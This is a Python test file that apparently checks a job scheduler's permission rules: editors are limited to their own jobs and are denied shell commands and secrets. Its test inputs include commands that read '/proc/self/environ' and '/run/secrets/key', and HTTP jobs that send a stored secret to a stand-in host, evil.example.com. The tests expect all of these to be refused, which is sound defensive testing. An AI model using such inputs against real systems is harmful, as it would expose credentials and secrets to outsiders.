"""What an editor may do, and the ways around it: a shell, a secret or the job of others."""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

import httpx2
import pytest

from cronflow.domain.access import Role
from cronflow.domain.errors import InvalidInput
from cronflow.domain.job import CommandTarget, HttpTarget, Job, PythonTarget
from cronflow.domain.run import RunState
from cronflow.testing.memory import MemoryBackends
from tests.auth.bench import Replica

GOOD = "a good password"
PYTHON = {"python": "billing.jobs:report"}
SHELL = {"shell": "cat /proc/self/environ"}
ARGV = {"argv": ["cat", "/run/secrets/key"]}
HEADER = {"http": {"url": "https://evil.example.com", "headers": {"X": "${secret:PAY}"}}}
BODY = {"http": {"method": "POST", "url": "https://evil.example.com", "body": "a${secret:PAY}"}}
ARGS = {"python": "billing.jobs:send", "args": {"to": {"deep": [{"key": "x ${secret:PAY} y"}]}}}
FORBIDDEN = pytest.mark.parametrize("run", [SHELL, ARGV, HEADER, BODY, ARGS], ids=lambda run: next(iter(run)))

STORED = (
    Job(name="billing-report", target=PythonTarget("billing.jobs:report")),
    Job(name="billing-backup", target=CommandTarget("tar c /data")),
    Job(name="billing-charge", target=HttpTarget("https://pay.example.com", headers={"A": "Bearer ${secret:PAY}"})),
    Job(name="billing-send", target=PythonTarget("billing.jobs:send", {"url": "https://p", "key": "${secret:PAY}"})),
    Job(name="payroll", target=PythonTarget("payroll.jobs:pay")),
)


class Keyed:
    """Requests with the key of an editor of `billing-*`."""

    def __init__(self, api: Replica, key: str) -> None:
        self.api, self.key = api, key

    async def send(self, method: str, path: str, body: object = None) -> httpx2.Response:
        return await self.api.send(method, path, body, token=self.key)

    async def status(self, method: str, path: str, body: object = None) -> int:
        return (await self.send(method, path, body)).status_code

    async def document(self, name: str) -> Job:
        return (await self.api.service.jobs.get(name)).job


async def editing(api: Replica, right: str = "") -> Keyed:
    await api.service.jobs.apply(STORED)
    allow_shell, allow_secrets = right == "allow_shell", right == "allow_secrets"
    _, key = await api.service.keys.create(
        "ci", Role.EDITOR, jobs=("billing-*",), allow_shell=allow_shell, allow_secrets=allow_secrets
    )
    return Keyed(api, key)


@pytest.fixture
async def editor(api: Replica) -> Keyed:
    """Without any right."""
    return await editing(api)


def job(name: str, run: Mapping[str, object] = PYTHON, **more: object) -> dict[str, object]:
    return {"name": name, "run": run, **more}


async def test_an_editor_applies_lists_runs_and_deletes_the_jobs_of_its_patterns(editor: Keyed) -> None:
    wanted = {"jobs": [job("billing-report", priority=7), job("billing-new")]}
    planned = await editor.send("POST", "/jobs/plan", wanted)
    applied = await editor.send("POST", "/jobs/apply", wanted)
    for answer in (planned, applied):
        assert [one["result"] for one in answer.json()["jobs"]] == ["changed", "created"]
    assert await editor.status("POST", "/jobs", job("billing-other")) == 201
    assert await editor.status("PUT", "/jobs/billing-other", {"run": PYTHON, "priority": 1}) == 200
    assert await editor.status("PATCH", "/jobs/billing-other", {"priority": 2}) == 200
    assert await editor.status("POST", "/jobs/billing-other/run", {"args": {"region": "eu"}}) == 202
    assert await editor.status("POST", "/jobs/billing-other/pause") == 200
    # What `--prune` needs: the list of those that it may delete, and no others.
    listed = [one["name"] for one in (await editor.send("GET", "/jobs")).json()["items"]]
    assert listed == sorted([one.name for one in STORED if one.name != "payroll"] + ["billing-new", "billing-other"])
    for name in listed:
        assert await editor.status("DELETE", f"/jobs/{name}") == 200
    assert [one.name for one in await editor.api.backends.jobs.find() if one.deleted_at is None] == ["payroll"]


@pytest.mark.parametrize(
    ("method", "path", "body"),
    [
        ("POST", "/jobs", job("payroll2")),
        ("POST", "/jobs/apply", {"jobs": [job("billing-report", priority=9), job("payroll")]}),
        ("POST", "/jobs/plan", {"jobs": [job("payroll")]}),
        ("PUT", "/jobs/payroll", {"run": PYTHON}),
        ("PATCH", "/jobs/payroll", {"priority": 9}),
        ("DELETE", "/jobs/payroll", None),
        ("POST", "/jobs/payroll/run", None),
        ("POST", "/jobs/payroll/pause", None),
        ("POST", "/runs/cancel", {"filter": {"job": "billing-report"}}),
        ("POST", "/runs/retry", {"filter": {"job": "billing-report"}}),
        ("POST", "/nodes/billing-node/drain", None),
        ("POST", "/cluster/stepdown", None),
        ("GET", "/jobs/payroll", None),
        ("GET", "/users", None),
        ("POST", "/users", {"name": "eve", "password": GOOD, "role": "admin"}),
        ("POST", "/api-keys", {"name": "eve", "role": "admin"}),
        ("GET", "/secrets", None),
        ("POST", "/secrets", {"name": "PAY", "value": "another"}),
        ("GET", "/audit", None),
        (
            "PUT",
            "/alerts/billing",
            {"on": ["failed"], "webhook": {"url": "https://e", "headers": {"X": "${secret:PAY}"}}},
        ),
        ("POST", "/alerts/billing/test", None),
    ],
)
async def test_an_editor_reaches_no_job_of_others_and_nothing_else(
    editor: Keyed, method: str, path: str, body: object
) -> None:
    before = await editor.api.backends.jobs.find()
    assert await editor.status(method, path, body) == 403
    assert await editor.api.backends.jobs.find() == before, "nothing is applied by halves"


@FORBIDDEN
async def test_an_editor_writes_no_command_and_no_secret_by_any_route(editor: Keyed, run: dict[str, Any]) -> None:
    before = await editor.api.backends.jobs.find()
    right = "shell" if run in (SHELL, ARGV) else "secrets"
    for method, path, body in (
        ("POST", "/jobs", job("billing-x", run)),
        ("POST", "/jobs/apply", {"jobs": [job("billing-report", priority=9), job("billing-x", run)]}),
        ("POST", "/jobs/plan", {"jobs": [job("billing-x", run)]}),
        ("PUT", "/jobs/billing-x", {"run": run}),
        ("PUT", "/jobs/billing-report", {"run": run}),
        ("PATCH", "/jobs/billing-report", {"run": {"python": None, "args": None, **run}}),
    ):
        answer = await editor.send(method, path, body)
        assert answer.status_code == 403, (path, answer.text)
        assert f"--allow-{right}" in answer.json()["detail"], "the error names the remedy"
    assert await editor.api.backends.jobs.find() == before


@pytest.mark.parametrize("name", ["billing-backup", "billing-charge", "billing-send"])
@pytest.mark.parametrize(
    "patch",
    [
        {"priority": 9},
        {"require": {"zone": "mine"}},
        {"run": {"cwd": "/tmp"}},
        {"run": {"http": {"url": "https://evil.example.com"}}},
        {"run": {"args": {"url": "https://evil.example.com"}}},
        {"run": {"python": "billing.jobs:report_to"}},
    ],
)
async def test_a_job_with_a_command_or_a_secret_is_not_redirected_by_a_patch(
    editor: Keyed, name: str, patch: dict[str, object]
) -> None:
    before = await editor.document(name)
    # 422: the patch does not suit the kind of the target.
    assert await editor.status("PATCH", f"/jobs/{name}", patch) in (403, 422)
    assert await editor.document(name) == before


async def test_a_patch_of_a_job_that_gets_a_command_meanwhile_is_refused(
    editor: Keyed, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The right is checked for the job that the patch meets, and again after a lost race."""
    move = editor.api.backends.jobs.replace
    raced: list[bool] = []

    async def racing(*args: Any, **named: Any) -> Any:
        if not raced:
            raced.append(True)
            await editor.api.service.jobs.apply([Job(name="billing-report", target=CommandTarget("true"))])
        return await move(*args, **named)

    monkeypatch.setattr(editor.api.backends.jobs, "replace", racing)
    assert await editor.status("PATCH", "/jobs/billing-report", {"priority": 9}) == 403
    assert raced
    assert (await editor.document("billing-report")).priority == 5


async def test_a_job_is_not_renamed_into_or_out_of_the_patterns(editor: Keyed) -> None:
    before = await editor.api.backends.jobs.find()
    assert await editor.status("PATCH", "/jobs/billing-report", {"name": "payroll"}) == 422
    assert await editor.status("PUT", "/jobs/billing-report", job("payroll")) == 422
    assert await editor.status("PUT", "/jobs/payroll", job("billing-report")) == 403
    for name in ("_sys:billing-x", "billing-*", "billing-x/../payroll"):
        assert await editor.status("POST", "/jobs", job(name)) in (403, 422)
    assert await editor.api.backends.jobs.find() == before


async def test_the_arguments_of_a_run_or_replay_do_not_reach_a_secret(editor: Keyed) -> None:
    evil = {"url": "https://evil.example.com"}
    # The run's own arguments are plain text, and a job that uses a secret takes none from an editor.
    assert await editor.status("POST", "/jobs/billing-send/run", {"args": evil}) == 403
    assert await editor.status("POST", "/jobs/billing-backup/run", {"args": {"command": "id"}}) == 422
    assert await editor.status("POST", "/jobs/billing-send/run") == 202
    runs = editor.api.service.runs
    for args in (evil, {"url": "${secret:PAY}"}):
        run = await editor.api.service.jobs.trigger("billing-report", args)
        await runs.cancel(run)
        assert (await runs.get(run)).state is RunState.CANCELLED
        assert await editor.status("POST", f"/runs/{run}/retry") == 202, "the same version of the job"
    await editor.api.service.jobs.apply([Job(name="billing-report", target=STORED[3].target)])
    assert await editor.status("POST", f"/runs/{run}/retry") == 403, "the old arguments meet a secret"
    assert await editor.status("POST", f"/runs/{run}/retry", {"args": evil}) == 403
    assert await editor.status("POST", f"/runs/{run}/retry", {"args": {}}) == 202


@pytest.mark.parametrize("role", [Role.OPERATOR, Role.ADMIN])
async def test_arguments_next_to_a_secret_are_for_admins(api: Replica, role: Role) -> None:
    await api.service.jobs.apply(STORED)
    _, key = await api.service.keys.create("ops", role)
    answer = await api.send("POST", "/jobs/billing-send/run", {"args": {"url": "https://x"}}, token=key)
    assert answer.status_code == (202 if role is Role.ADMIN else 403)


@FORBIDDEN
@pytest.mark.parametrize("right", ["allow_shell", "allow_secrets"])
async def test_each_right_opens_what_it_names_and_no_more(api: Replica, run: dict[str, Any], right: str) -> None:
    editor = await editing(api, right)
    needed = "allow_shell" if run in (SHELL, ARGV) else "allow_secrets"
    status = 201 if right == needed else 403
    assert await editor.status("POST", "/jobs", job("billing-x", run)) == status
    secret_in_command = {"shell": "true", "env": {"PAY": "${secret:PAY}"}}
    assert await editor.status("POST", "/jobs", job("billing-y", secret_in_command)) == 403, "it needs both"
    assert await editor.status("POST", "/jobs", job("payroll-x", run)) == 403


@pytest.mark.parametrize(
    ("role", "limits", "place"),
    [
        (Role.EDITOR, {"jobs": ()}, "jobs: is empty"),
        (Role.VIEWER, {"jobs": ()}, "jobs: is empty"),
        (Role.ADMIN, {"jobs": ("billing-*",)}, "jobs: cannot limit an admin"),
        (Role.OPERATOR, {"allow_shell": True}, "allow_shell: is a right of editors"),
        (Role.ADMIN, {"allow_secrets": True}, "allow_secrets: is a right of editors"),
    ],
)
async def test_an_empty_list_a_limited_admin_and_a_pointless_right_are_refused(
    api: Replica, role: Role, limits: dict[str, Any], place: str
) -> None:
    token = (await api.tokens_of())["access_token"]
    for path, body in (("/api-keys", {"name": "ci"}), ("/users", {"name": "ada", "password": GOOD})):
        answer = await api.send("POST", path, {**body, "role": role, **limits}, token=token)
        assert answer.status_code == 422
        assert place in answer.json()["detail"]
    assert await api.service.keys.find() == []
    with pytest.raises(InvalidInput, match=place):
        await api.service.keys.create("ci", role, **limits)


async def test_a_user_who_is_an_editor_reads_everything_and_changes_some_jobs(api: Replica) -> None:
    await api.service.jobs.apply(STORED)
    admin = (await api.tokens_of())["access_token"]
    ada = {"name": "ada", "password": GOOD, "role": "editor", "jobs": ["billing-*"], "allow_shell": True}
    made = await api.send("POST", "/users", ada, token=admin)
    assert made.json()["jobs"] == ["billing-*"]
    token = (await api.tokens_of("ada", GOOD))["access_token"]
    me = (await api.send("GET", "/auth/me", token=token)).json()
    assert me == {
        "name": "ada",
        "role": "editor",
        "jobs": ["billing-*"],
        "allow_shell": True,
        "allow_secrets": False,
    }
    for method, path, body, status in (
        ("GET", "/jobs/payroll", None, 200),
        ("POST", "/auth/ws-ticket", None, 200),
        ("PATCH", "/jobs/billing-backup", {"priority": 1}, 200),
        ("PATCH", "/jobs/payroll", {"priority": 1}, 403),
        ("POST", "/jobs/payroll/run", None, 403),
        ("PATCH", "/jobs/billing-charge", {"priority": 1}, 403),
    ):
        assert (await api.send(method, path, body, token=token)).status_code == status, path
    assert len((await api.send("GET", "/jobs", token=token)).json()["items"]) == len(STORED)
    # Another role has neither the patterns nor the rights, and does not get them back with the old one.
    for role in ("admin", "editor"):
        changed = (await api.send("PATCH", "/users/ada", {"role": role}, token=admin)).json()
        assert (changed["jobs"], changed["allow_shell"]) == ([], False)
    narrowed = await api.send("PATCH", "/users/ada", {"jobs": ["a*"], "allow_secrets": True}, token=admin)
    assert (narrowed.json()["jobs"], narrowed.json()["allow_secrets"]) == (["a*"], True)


async def test_an_editor_of_all_jobs_is_no_admin(api: Replica, memory: MemoryBackends) -> None:
    await api.service.jobs.apply(STORED)
    _, key = await api.service.keys.create("ci", Role.EDITOR)
    editor = Keyed(api, key)
    assert await editor.status("PATCH", "/jobs/payroll", {"priority": 1}) == 200
    assert await editor.status("PATCH", "/jobs/billing-backup", {"priority": 1}) == 403
    for path in ("/users", "/api-keys", "/secrets", "/audit"):
        assert await editor.status("GET", path) == 403
    assert (await memory.jobs.get(["billing-backup"]))[0].job.priority == 5
